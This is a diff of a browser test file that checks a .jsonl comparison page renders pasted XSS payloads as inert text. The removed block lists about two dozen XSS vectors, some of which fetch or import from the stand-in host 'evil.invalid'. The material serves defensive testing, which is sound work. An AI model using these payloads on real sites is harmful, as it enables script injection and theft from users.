@@ -4,6 +4,7 @@
 // ids: none may run (no dialog, no script, no request) and each is shown as text.
 import { test, before, after } from "node:test";
 import assert from "node:assert/strict";
+import { payloads } from "./payloads.mjs";
 import { startPage } from "./harness.mjs";
 
 let browser, base, stop;
@@ -81,7 +82,7 @@ test("bad .jsonl lines are reported by number, the good ones kept", async () => 
   const before = Number(await page.evaluate(() => document.body.dataset.compared || 0));
   await page.setInputFiles("#file", [{ name: "set.jsonl", mimeType: "application/jsonl", buffer: Buffer.from(lines) }]);
   await page.waitForFunction((n) => Number(document.body.dataset.compared || 0) > n, before, { timeout: 60_000 });
-  const status = await page.locator("#status").textContent();
+  const status = await page.locator("#file-note").textContent();
   assert.match(status, /3 articles added/);
   assert.match(status, /2 lines skipped: set\.jsonl line 2: not JSON; set\.jsonl line 4: no "text" string/);
   assert.match(await page.locator("#doc-tabs").textContent(), /\{"nested":true\}/);
@@ -98,43 +99,6 @@ test("the page sends its CSP as a header, frame-ancestors included", async () =>
   assert.match(worker.headers.get("content-security-policy"), /script-src 'self' 'wasm-unsafe-eval'/);
 });
 
-/** XSS payloads written for this test: each, if it ran, would open a dialog, set a flag, change
- * the title or fetch an address outside the page. */
-function payloads() {
-  const run = ["alert(1)", "window.__xss=1", "document.title='pwned'", "fetch('http://evil.invalid/x')"];
-  const out = [];
-  for (const js of run) {
-    out.push(
-      `<script>${js}</script>`,
-      `<img src=x onerror="${js}">`,
-      `<svg onload="${js}"></svg>`,
-      `<svg><script>${js}</script></svg>`,
-      `<math><mtext><img src=x onerror="${js}"></mtext></math>`,
-      `<body onload="${js}">`,
-      `<iframe src="javascript:${js}"></iframe>`,
-      `<a href="javascript:${js}">lien</a>`,
-      `<div style="background:url(javascript:${js})">x</div>`,
-      `<input autofocus onfocus="${js}">`,
-      `<details open ontoggle="${js}">`,
-      `<video><source onerror="${js}"></video>`,
-      `<object data="javascript:${js}"></object>`,
-      `<embed src="javascript:${js}">`,
-      `<form action="javascript:${js}"><button>go</button></form>`,
-      `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
-      `<link rel=stylesheet href="http://evil.invalid/${encodeURIComponent(js)}.css">`,
-      `<style>@import 'http://evil.invalid/a.css';</style>`,
-      `&lt;script&gt;${js}&lt;/script&gt;`,
-      `<scr<script>ipt>${js}</scr</script>ipt>`,
-      `"><script>${js}</script>`,
-      `'><img src=x onerror=${js}>`,
-      `« <script>${js}</script> », a déclaré Jean <b onmouseover="${js}">Dupont</b>.`,
-      `"<img src=x onerror=${js}>," said Mary <i>Smith</i>.`,
-      `<template><script>${js}</script></template>`,
-      `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
-    );
-  }
-  return out;
-}
 
 test("a hundred XSS payloads pasted, as file names and as .jsonl ids run nothing and show as text", async () => {
   const list = payloads();
